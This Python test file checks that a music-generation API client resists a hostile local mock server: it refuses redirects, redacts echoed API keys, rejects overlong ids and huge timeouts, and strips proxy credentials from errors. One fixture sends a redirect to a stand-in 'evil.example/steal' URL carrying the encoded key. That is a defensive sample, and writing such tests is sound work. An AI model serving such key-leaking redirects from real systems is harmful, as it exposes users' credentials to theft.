"""The client core against redirects, key echoes, long ids and huge numbers, over real sockets on 127.0.0.1.

A redirect's own headers and body, the key echoed in another case or URL-encoded, ids too long for a URL
(a paid call must not be journalled "maybe charged" when nothing was sent), and numbers too large to be
seconds: each is a `MusicGenError` with the key nowhere, never a stdlib traceback.
"""

from __future__ import annotations

import asyncio
import urllib.parse
from pathlib import Path
from typing import Any

import pytest
from hostile_server import HostileServer, RawRequest, respond

from ipymusicgen.client.faces import AsyncMusicClient, MusicClient
from ipymusicgen.config import Settings
from ipymusicgen.errors import (
    APIResponseValidationError,
    APIStatusError,
    CreateOutcomeUnknownError,
    MusicGenError,
    RedirectRefusedError,
    RequestValidationError,
)
from ipymusicgen.sandbox import Sandbox
from ipymusicgen.storage.journal import Journal

pytestmark = pytest.mark.usefixtures("clean_env")  # no MUSICGEN_* setting of the machine leaks in

KEY = "sk-Review+Canary/9b1e="
"""A key with characters that URL-encoding changes, and letters of both cases."""


def client_for(server: HostileServer, journal: Journal | None = None) -> MusicClient:
    return MusicClient(
        KEY, base_url=server.url, v2_base_url=server.url, journal=journal or False, timeout=2.0, max_retries=0
    )


def async_client_for(server: HostileServer) -> AsyncMusicClient:
    return AsyncMusicClient(KEY, base_url=server.url, v2_base_url=server.url, journal=False, timeout=2.0, max_retries=0)


def variants(key: str) -> list[str]:
    return [key, key.upper(), key.lower(), urllib.parse.quote(key, safe=""), urllib.parse.quote_plus(key)]


def leaks(text: str) -> list[str]:
    return [v for v in variants(KEY) if v.lower() in text.lower()]


def redirect_echoing_the_key(req: RawRequest, sock: Any) -> None:
    key = req.headers.get("x-api-key", "")
    respond(
        sock,
        302,
        {"moved": key, "quoted": urllib.parse.quote(key, safe="")},
        {"Location": f"http://evil.example/steal?k={urllib.parse.quote(key)}", "X-Echo": key},
    )


def test_a_refused_redirect_keeps_no_key_in_its_headers_or_body(journal: Journal) -> None:
    seen: list[str] = []
    with HostileServer(redirect_echoing_the_key) as server:
        with client_for(server, journal) as client:
            with pytest.raises(RedirectRefusedError) as read:
                client.tasks(["t1"])
            with pytest.raises(CreateOutcomeUnknownError) as paid:  # a paid create may have been carried out
                client.generate(action="auto", style="x")

        async def async_side() -> None:
            async with async_client_for(server) as c:
                await c.key_info()

        with pytest.raises(RedirectRefusedError) as from_async:
            asyncio.run(async_side())
    for caught in (read, from_async):
        exc = caught.value
        seen += [str(exc), repr(exc.response.headers), exc.response.content.decode(), repr(exc.body)]
    seen += [str(paid.value), repr(paid.value)]
    assert not [t for t in seen if leaks(t)], [t for t in seen if leaks(t)]
    assert not leaks(Path(journal.path).read_bytes().decode("latin-1"))


def echo_variants(req: RawRequest, sock: Any) -> None:
    key = req.headers.get("x-api-key", "")
    if req.path == "/v1/get_api_key_info":
        extra = {"upper": key.upper(), "lower": key.lower(), "quoted": urllib.parse.quote(key, safe="")}
        respond(sock, 200, {"status": 200, "message": "ok", "data": {"key_name": key.upper(), **extra}})
    elif req.path == "/v1/music/generate":
        detail = [{"loc": ["body", "style"], "msg": f"bad {key.lower()}", "type": "x", "input": key.upper()}]
        respond(sock, 422, {"detail": detail}, {"X-Echo": urllib.parse.quote_plus(key)})
    elif req.path == "/v2/submit":  # the key in the reason phrase of an empty 503
        sock.sendall(f"HTTP/1.1 503 {key.upper()}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".encode())
    else:
        respond(sock, 200, [{"id": "t1", "status": 3, "fail_reason": f"key {urllib.parse.quote_plus(key)} refused"}])


def test_the_key_echoed_in_another_case_or_url_encoded_is_redacted(journal: Journal) -> None:
    seen: list[str] = []
    with HostileServer(echo_variants) as server, client_for(server, journal) as client:
        info = client.key_info()
        seen += [repr(info), repr(info.model_dump())]
        (record,) = client.tasks(["t1"])
        seen += [repr(record), record.fail_reason or ""]
        with pytest.raises(Exception) as e422:
            client.generate(action="auto", style="x")
        exc: Any = e422.value
        seen += [str(exc), repr(exc.detail), repr(exc.body), exc.response.text, repr(exc.response.headers)]
        with pytest.raises(APIStatusError) as e503:
            client.submit_v2(is_auto=1, model_version="v4.5", prompt="x")
        seen += [str(e503.value), e503.value.response.reason_phrase]
    assert not [t for t in seen if leaks(t)], [t for t in seen if leaks(t)]
    assert "***" in (record.fail_reason or "")
    assert not leaks(Path(journal.path).read_bytes().decode("latin-1"))


@pytest.mark.parametrize("call", ["tasks", "query_v2", "generate_vibe", "wait"])
def test_an_id_too_long_for_a_url_is_refused_and_nothing_is_journalled(
    sandbox: Sandbox, journal: Journal, call: str
) -> None:
    long_id = "a" * 100_000
    client = MusicClient(
        KEY, base_url=sandbox.base_url, v2_base_url=sandbox.v2_base_url, journal=journal, allow_insecure_http=True
    )
    with client, pytest.raises(RequestValidationError) as caught:
        if call == "wait":
            client.wait([long_id], timeout=0)
        else:
            getattr(client, call)(long_id if call != "tasks" else [long_id])
    assert "too long" in str(caught.value)
    assert journal.attempts() == []  # nothing was sent, so nothing may be "maybe charged"


@pytest.mark.parametrize(
    "kwargs",
    [{"timeout": 10**400}, {"interval": 10**400}, {"timeout": 1e300, "interval": 1e300}],
    ids=["huge-timeout", "huge-interval", "1e300"],
)
def test_wait_refuses_seconds_too_large_to_be_seconds(sandbox: Sandbox, kwargs: dict[str, Any]) -> None:
    with sandbox.client() as client:
        ids = client.generate(action="auto", style="x").ids
        with pytest.raises(RequestValidationError):
            client.wait(ids, **kwargs)

    async def async_side() -> None:
        async with sandbox.async_client() as c:
            await c.wait(ids, **kwargs)

    with pytest.raises(RequestValidationError):
        asyncio.run(async_side())


@pytest.mark.parametrize("name", ["timeout", "connect_timeout", "poll_interval", "wait_timeout"])
@pytest.mark.parametrize("value", [10**400, 1e300], ids=["huge-int", "1e300"])
def test_settings_refuse_seconds_too_large_to_be_seconds(sandbox: Sandbox, name: str, value: Any) -> None:
    with pytest.raises(RequestValidationError) as caught:
        MusicClient(KEY, base_url=sandbox.base_url, journal=False, settings=Settings(**{name: value}))
    assert name in str(caught.value)


def odd_durations(req: RawRequest, sock: Any) -> None:
    if req.path == "/v2/query":
        song = b'{"song_id": "s1", "status": "complete", "audio_duration": NaN}'
        body = b'{"status": 200, "message": "ok", "data": ' + song + b"}"
    else:
        body = b'[{"id": "t1", "status": 4, "duration": Infinity}, {"id": "t2", "status": 4, "duration": -Infinity}]'
    respond(sock, 200, raw=body)


def test_a_duration_that_is_not_a_finite_number_reads_as_unknown() -> None:
    """NaN/Infinity durations (Python's json reads them) are no length: `int(duration)` would raise downstream."""
    with HostileServer(odd_durations) as server, client_for(server) as client:
        records = client.tasks(["t1", "t2"])
        song = client.query_v2("s1")
    assert [r.duration_seconds for r in records] == [None, None]
    assert song.duration_seconds is None


@pytest.mark.parametrize(
    ("path", "answer"),
    [
        ("generate", {"ids": [""]}),
        ("generate", {"ids": ["   "]}),
        ("generate", {"ids": ["good-1", "a,b"]}),
        ("generate", {"task_id": "x" * 1000}),
        ("submit", [{"song_id": ""}]),
        ("submit", [{"song_id": "ok-1"}, {"song_id": "a\u202eb"}]),
    ],
)
def test_an_answer_with_unusable_ids_is_an_error_and_the_attempt_stays_unknown(
    journal: Journal, path: str, answer: Any
) -> None:
    """Ids that could never be waited on (blank, comma, too long, control characters) are not "submitted"."""
    with (
        HostileServer(lambda req, sock: respond(sock, 200, answer)) as server,
        client_for(server, journal) as client,
        pytest.raises(APIResponseValidationError),
    ):
        if path == "generate":
            client.generate(action="auto", style="x")
        else:
            client.submit_v2(is_auto=1, model_version="v4.5", prompt="x")
    (attempt,) = journal.attempts()
    assert attempt.outcome == "unknown"


@pytest.mark.parametrize(
    "url", ["https://exa\tmple.com", "https://", "https://[zz]", "https://host:99999", "http:///x"]
)
def test_a_base_url_that_cannot_be_sent_to_is_refused_at_once(url: str) -> None:
    """Not an httpx error at the first paid call (after the attempt was journalled "maybe charged")."""
    for field in ("base_url", "v2_base_url"):
        with pytest.raises(RequestValidationError) as caught:
            MusicClient(KEY, journal=False, **{field: url})
        assert field in str(caught.value)


def test_a_request_model_of_the_other_version_is_refused_and_nothing_is_sent(sandbox: Sandbox) -> None:
    """`generate(v2_request)` sent a bare auto request without the prompt; `submit_v2(v1_request)` was unclear."""
    from ipymusicgen.models.schema import build_generate_request, build_v2_request

    v2 = build_v2_request(is_auto=1, model_version="v4.5", prompt="rain on a tin roof")
    v1 = build_generate_request(action="auto", style="lo-fi")
    with sandbox.client() as client:
        with pytest.raises(RequestValidationError, match="v2"):
            client.generate(v2)
        with pytest.raises(RequestValidationError, match="v1"):
            client.submit_v2(v1)
    assert not any(sandbox.request_counts().values())


def test_a_bool_continue_at_is_refused_v1_like_v2(sandbox: Sandbox) -> None:
    with sandbox.client() as client:
        with pytest.raises(RequestValidationError, match="continue_at"):
            client.generate(action="extend", continue_song_id="s1", continue_at=True, style="x")
        with pytest.raises(RequestValidationError, match="continue_at"):
            client.submit_v2(is_auto=0, model_version="v4.5", prompt="rain x", continue_at=True, continue_song_id="s1")
    assert not any(sandbox.request_counts().values())


@pytest.mark.parametrize("status", [507, 530, 598, 599])
def test_any_5xx_to_a_paid_call_leaves_it_unknown_not_rejected(journal: Journal, status: int) -> None:
    """Proxies answer 598/599 (network read timeout) after forwarding: the song may exist and be paid for."""
    with (
        HostileServer(lambda req, sock: respond(sock, status, {"message": "upstream trouble"})) as server,
        client_for(server, journal) as client,
        pytest.raises(APIStatusError) as caught,
    ):
        client.generate(action="auto", style="x")
    assert "NOT resent" in str(caught.value)
    (attempt,) = journal.attempts()
    assert attempt.outcome == "unknown"
    assert len(server.requests) == 1


def test_errors_name_the_address_without_its_user_info(journal: Journal, tmp_path: Path) -> None:
    """A base or download URL may carry proxy credentials (`https://user:pass@host`): errors and notes drop them."""
    with HostileServer(lambda req, sock: None) as server:  # hangs up without a word
        port = server.port
    url = f"http://proxyuser:pr0xy-Secret-77@127.0.0.1:{port}"
    messages: list[str] = []
    with MusicClient(KEY, base_url=url, v2_base_url=url, journal=journal, max_retries=0, timeout=1.0) as client:
        for call in (
            client.key_info,
            lambda: client.generate(action="auto", style="x"),
            lambda: client.download(url + "/song.mp3", tmp_path),
        ):
            with pytest.raises(MusicGenError) as caught:
                call()
            messages.append(str(caught.value))
    notes = [a.note or "" for a in journal.attempts()]
    assert all("pr0xy-Secret-77" not in m and "proxyuser" not in m for m in messages + notes), messages + notes
    assert all("127.0.0.1" in m for m in messages)


def test_a_refused_download_names_its_address_without_user_info(tmp_path: Path) -> None:
    def huge(req: RawRequest, sock: Any) -> None:
        sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: audio/mpeg\r\nContent-Length: 999999999999\r\n\r\n")

    with HostileServer(huge) as server, MusicClient(settings=Settings(max_download_mb=1), journal=False) as client:
        url = server.url.replace("http://", "http://proxyuser:pr0xy-Secret-77@") + "/song.mp3"
        with pytest.raises(MusicGenError) as caught:
            client.download(url, tmp_path)
    assert "pr0xy-Secret-77" not in str(caught.value) and "proxyuser" not in str(caught.value)
    assert "limit" in str(caught.value)
